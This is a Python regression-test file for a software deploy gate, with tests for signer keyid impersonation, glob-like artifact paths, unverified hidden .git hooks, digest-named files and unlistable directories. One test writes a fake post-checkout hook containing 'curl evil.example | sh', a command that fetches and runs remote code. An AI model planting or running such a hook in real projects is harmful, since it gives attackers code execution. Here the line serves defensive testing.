"""Hostile-tester findings of 2026-11-30 against the deploy gate, one regression test each: a key
file claiming another signer's keyid, an artifact path read as a glob, a directory's `.git`
left unverified. Each test failed (exit 0) before its fix."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import yaml
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from attest.keys import load_public_key
from tests.verify.conftest import SLSA, TEST_RESULT, DemoLedger, provenance, result_predicate
from tests.verify.conftest import statement as make_statement
from tests.verify.gate import fresh, record_passing, sha, verify


def _impostor_key(demo: DemoLedger, path: Path) -> Path:
    """``other``'s public key as a securesystemslib JSON key that claims ``ci``'s keyid."""
    ci_keyid = load_public_key(demo.ci_pub.read_bytes(), source="ci").keyid
    pub = serialization.load_pem_public_key(demo.other_pub.read_bytes())
    assert isinstance(pub, ed25519.Ed25519PublicKey)
    raw = pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    doc = {
        "keytype": "ed25519",
        "scheme": "ed25519",
        "keyid": ci_keyid,
        "keyval": {"public": raw.hex()},
    }
    path.write_text(json.dumps(doc))
    return path


def test_a_key_file_claiming_another_signers_keyid_signs_as_itself_only(
    demo: DemoLedger, tmp_path: Path
) -> None:
    name = fresh("impostor")
    demo.append(make_statement(name, SLSA, provenance()), demo.other)
    demo.append(make_statement(name, TEST_RESULT, result_predicate()), demo.other)
    vendor = _impostor_key(demo, tmp_path / "vendor.json")
    signers = {"ci": {"key": str(demo.ci_pub)}, "vendor": {"key": str(vendor)}}
    policy = demo.policy(tmp_path / "p.yaml", signers=signers)
    r = verify(sha(name), "--policy", policy, "--db", demo.db)
    assert r.exit_code == 1, r.stdout  # only vendor signed; the steps want ci

    doc = yaml.safe_load(policy.read_text())
    for step in doc["steps"]:
        step["signers"], step["threshold"] = ["ci", "vendor"], 2
    policy.write_text(yaml.safe_dump(doc))
    r = verify(sha(name), "--policy", policy, "--db", demo.db)
    assert r.exit_code == 1, r.stdout  # one signer is not two, whatever its keyid says
    assert "signed by ci" not in r.stdout


def test_an_artifact_path_is_never_a_glob(demo: DemoLedger, tmp_path: Path) -> None:
    good = fresh("glob-good")
    record_passing(demo, good)
    (tmp_path / "app1.zip").write_text(good)  # attested
    (tmp_path / "app[1].zip").write_text(fresh("glob-unattested"))  # what is deployed
    policy = demo.policy(tmp_path / "p.yaml")
    assert verify(tmp_path / "app1.zip", "--policy", policy, "--db", demo.db).exit_code == 0
    r = verify(tmp_path / "app[1].zip", "--policy", policy, "--db", demo.db, "--format", "json")
    assert r.exit_code == 3, r.stdout  # nothing recorded about the file deployed (was exit 0)
    assert json.loads(r.stdout)["artifacts"][0]["name"].endswith("app[1].zip")


def test_a_directory_artifact_verifies_its_git_and_hidden_files(
    demo: DemoLedger, tmp_path: Path
) -> None:
    good = fresh("ship-good")
    record_passing(demo, good)
    ship = tmp_path / "ship"
    ship.mkdir()
    (ship / "app.zip").write_text(good)
    policy = demo.policy(tmp_path / "p.yaml")
    assert verify(ship, "--policy", policy, "--db", demo.db).exit_code == 0
    hook = ship / "sub" / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    r = verify(ship, "--policy", policy, "--db", demo.db, "--format", "json")
    assert r.exit_code in (1, 3), r.stdout  # the hook is not attested (was exit 0)
    names = [a["name"] for a in json.loads(r.stdout)["artifacts"]]
    assert any(n.endswith("sub/.git/hooks/post-checkout") for n in names), names


def test_attestation_files_that_hold_no_attestation_objects_are_exit_2(
    demo: DemoLedger, tmp_path: Path
) -> None:
    policy = demo.policy(tmp_path / "p.yaml")
    for i, text in enumerate(("[]", '{"attestations": "x"}', '{"attestations": [1, null]}', "7")):
        f = tmp_path / f"odd{i}.json"
        f.write_text(text)
        r = verify("attestations", demo.app_zip, "--policy", policy, "--bundle", f)
        assert r.exit_code == 2, (text, r.stdout, r.stderr)
        assert str(f) in r.stderr, r.stderr


def test_a_file_named_like_a_digest_is_never_judged_by_its_name(
    demo: DemoLedger, tmp_path: Path, monkeypatch: Any
) -> None:
    """A file ``dist/app@sha256:<an attested digest>`` holding other bytes passed as that
    digest, its bytes never read (hostile round 2, critical)."""
    good = fresh("digest-name")
    record_passing(demo, good)
    policy = demo.policy(tmp_path / "p.yaml")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "dist").mkdir()
    name = f"dist/app@{sha(good)}"
    (tmp_path / name).write_text("EVIL PAYLOAD, never attested")
    assert verify(sha(good), "--policy", policy, "--db", demo.db).exit_code == 0
    r = verify(name, "--policy", policy, "--db", demo.db)
    assert r.exit_code == 2 and "both a file and a digest" in r.stderr, r.stdout + r.stderr
    r = verify(f"./{name}", "--policy", policy, "--db", demo.db)
    assert r.exit_code == 3, r.stdout  # the file itself: nothing recorded about its bytes


def test_a_directory_that_cannot_be_listed_is_refused(
    demo: DemoLedger, tmp_path: Path, monkeypatch: Any
) -> None:
    """os.walk skips what it cannot list; a deploy must not (hostile round 2, critical). Here
    the nest is deeper than the system's path limit, built level by level from inside."""
    good = fresh("walk-good")
    record_passing(demo, good)
    ship = tmp_path / "ship"
    ship.mkdir()
    (ship / "app").write_text(good)
    policy = demo.policy(tmp_path / "p.yaml")
    monkeypatch.chdir(ship)
    for i in range(20):  # 20 x 250 characters: past PATH_MAX
        level = f"{i:02d}" + "d" * 248
        os.mkdir(level)
        os.chdir(level)
    Path("payload.sh").write_text("#!/bin/sh\n")
    monkeypatch.chdir(tmp_path)
    r = verify(ship, "--policy", policy, "--db", demo.db)
    assert r.exit_code == 2 and "cannot be listed" in r.stderr, r.stdout + r.stderr
